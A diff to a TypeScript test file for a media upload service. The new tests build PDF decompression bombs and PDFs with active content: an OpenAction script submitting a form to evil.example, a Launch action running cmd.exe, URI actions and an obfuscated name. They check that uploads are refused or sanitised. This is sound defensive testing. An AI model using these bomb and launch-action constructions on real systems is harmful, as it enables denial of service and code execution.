@@ -2,11 +2,15 @@ import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { Readable } from 'node:stream';
+import { monitorEventLoopDelay } from 'node:perf_hooks';
+import { createDeflate } from 'node:zlib';
 import { PDFDocument } from 'pdf-lib';
 import sharp from 'sharp';
 import { DEFAULT_MEDIA_LIMITS, type MediaLimits } from '../config.js';
 import { AppError } from '../modules/common/errors.js';
 import { createMediaService, discardAll, originalUrl, sniffImage, variantUrl, type MediaService } from './media.service.js';
+import { checkPdf, DEFAULT_PDF_CHECK_LIMITS } from './pdf-check.js';
+import { inspectPdf } from './pdf-inspect.js';
 import { readUpload } from './read-upload.js';
 import type { FileUpload } from './upload.scalar.js';
 
@@ -224,6 +228,148 @@ describe('storePdf', () => {
     const error = await refusal(service({ pdfBytes: 100 }).storePdf(upload(bytes), { folder: 'archive', field: 'preview' }));
     expect(error.status).toBe(413);
     expect(error.fields).toEqual({ preview: 'Media.File.tooLarge' });
+  });
+});
+
+/** A PDF written by hand: `objects[i]` is object i + 1 (object 1 the catalog), with an xref table. */
+function rawPdf(objects: (string | Buffer)[]): Buffer {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
+  const offsets: number[] = [];
+  let length = parts[0]!.length;
+  objects.forEach((object, index) => {
+    offsets.push(length);
+    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.isBuffer(object) ? object : Buffer.from(object), Buffer.from('\nendobj\n')]);
+    parts.push(part);
+    length += part.length;
+  });
+  const xref = ['xref', `0 ${objects.length + 1}`, '0000000000 65535 f ', ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `)];
+  parts.push(Buffer.from(`${xref.join('\n')}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`));
+  return Buffer.concat(parts);
+}
+
+const PAGE_OBJECTS = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'];
+
+/** A stream object: `dictionary` plus `/Length`, around `data`. */
+const streamObject = (dictionary: string, data: Buffer) =>
+  Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);
+
+/** zlib data that inflates to `megabytes` MB of spaces (about 1000:1), made a megabyte at a time. */
+async function deflatedSpaces(megabytes: number): Promise<Buffer> {
+  const deflate = createDeflate({ level: 9 });
+  const chunks: Buffer[] = [];
+  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const done = new Promise((resolve) => deflate.on('end', resolve));
+  const megabyte = Buffer.alloc(1024 * 1024, 0x20);
+  for (let i = 0; i < megabytes; i += 1) if (!deflate.write(megabyte)) await new Promise((resolve) => deflate.once('drain', resolve));
+  deflate.end();
+  await done;
+  return Buffer.concat(chunks);
+}
+
+const MB = 1024 * 1024;
+
+describe('PDF bombs (T3-M3)', () => {
+  let objectStreamBomb: Buffer;
+  let contentBomb: Buffer;
+  beforeAll(async () => {
+    // The review's pdfBomb(200): one object stream that inflates to 200 MB.
+    objectStreamBomb = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', await deflatedSpaces(200))]);
+    // A page content stream of 64 MB of spaces: pdf-lib would not inflate it on load, but a bound on every stream holds it too.
+    contentBomb = rawPdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
+      streamObject('/Filter /FlateDecode', await deflatedSpaces(64)),
+    ]);
+  }, 120_000);
+
+  it('refuses an object stream that inflates to 200 MB with 415 Media.Pdf.tooComplex, and writes nothing', async () => {
+    expect(objectStreamBomb.length).toBeLessThan(MB);
+    const error = await refusal(media.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
+    expect(error.status).toBe(415);
+    expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
+    expect(filesUnder(uploads, { all: true })).toEqual([]);
+  });
+
+  it('stops inflating at the bound: the worker counts at most one zlib chunk past it, not the 200 MB', async () => {
+    const result = await checkPdf(objectStreamBomb);
+    expect(result.verdict).toBe('tooComplex');
+    expect(result.inflatedBytes).toBeGreaterThan(DEFAULT_PDF_CHECK_LIMITS.maxObjectStreamBytes);
+    expect(result.inflatedBytes).toBeLessThanOrEqual(DEFAULT_PDF_CHECK_LIMITS.maxObjectStreamBytes + 64 * 1024);
+
+    const limits = { maxInflatedBytes: 16 * MB, maxObjectStreamBytes: 4 * MB };
+    const content = await inspectPdf(contentBomb, limits);
+    expect(content).toMatchObject({ verdict: 'tooComplex' });
+    expect(content.inflatedBytes).toBeGreaterThan(limits.maxInflatedBytes);
+    expect(content.inflatedBytes).toBeLessThanOrEqual(limits.maxInflatedBytes + 64 * 1024);
+    // Under the bound the same document is fine: the bound, not the stream, refused it.
+    expect(await inspectPdf(contentBomb, { maxInflatedBytes: 128 * MB, maxObjectStreamBytes: 4 * MB })).toMatchObject({ verdict: 'ok', pages: 1, inflatedBytes: 64 * MB });
+  });
+
+  it('refuses an object stream under a filter the scan cannot bound (LZW)', async () => {
+    const pdf = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, streamObject('/Type /Obj#53tm /N 1 /First 4 /Filter /LZWDecode', Buffer.from('x'))]);
+    expect(await inspectPdf(pdf)).toMatchObject({ verdict: 'tooComplex' });
+  });
+
+  it('keeps the event loop free while the bomb is checked (max delay < 100 ms)', async () => {
+    const delay = monitorEventLoopDelay({ resolution: 10 });
+    delay.enable();
+    const error = await refusal(media.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
+    delay.disable();
+    expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
+    expect(delay.max / 1e6).toBeLessThan(100);
+  });
+
+  it('ends a worker that runs out of time, and refuses its document', async () => {
+    const slow = service();
+    const limited = new (slow.constructor as typeof MediaService)(slow.storage, slow.limits, undefined, { ...DEFAULT_PDF_CHECK_LIMITS, timeoutMs: 1 });
+    const error = await refusal(limited.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
+    expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
+  });
+});
+
+describe('active content in PDFs (T3-L6)', () => {
+  const ACTIVE = /\/(OpenAction|AA|JavaScript|JS|Launch|SubmitForm)\b|#|app\.alert|cmd\.exe|evil\.example/;
+  const store = async (pdf: Buffer) => {
+    const stored = await media.storePdf(upload(pdf, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' });
+    return readFileSync(onDisk(stored.path));
+  };
+
+  it('removes an /OpenAction script, the document-level scripts (/Names /JavaScript) and a link running a script', async () => {
+    const pdf = rawPdf([
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/")) >> /Names << /JavaScript 5 0 R >> >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Java#53cript /JS 6 0 R >> >>',
+      '<< /Names [(init) 7 0 R] >>',
+      '<< /Length 12 >>\nstream\napp.alert(3)\nendstream',
+      '<< /S /JavaScript /JS (app.alert(2)) >>',
+    ]);
+    expect(pdf.toString('latin1')).toMatch(ACTIVE);
+    const stored = await store(pdf);
+    expect(stored.toString('latin1')).not.toMatch(/\/(OpenAction|AA|JavaScript|JS)\b|app\.alert\(1|app\.alert\(2|evil\.example/);
+    expect((await PDFDocument.load(stored)).getPageCount()).toBe(1);
+  });
+
+  it('removes a /Launch open action and the additional actions (/AA) of the catalog and the page', async () => {
+    const pdf = rawPdf([
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> /AA << /WC << /S /URI /URI (https://evil.example/close) >> >> >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://evil.example/open) >> >> >>',
+    ]);
+    const stored = (await store(pdf)).toString('latin1');
+    expect(stored).not.toMatch(ACTIVE);
+    expect(stored).toMatch(/\/Type \/Catalog/);
+  });
+
+  it('stores a PDF without active content byte for byte, links to web pages included', async () => {
+    const pdf = rawPdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://dergi.example/) >> >>',
+    ]);
+    expect((await store(pdf)).equals(pdf)).toBe(true);
   });
 });
 
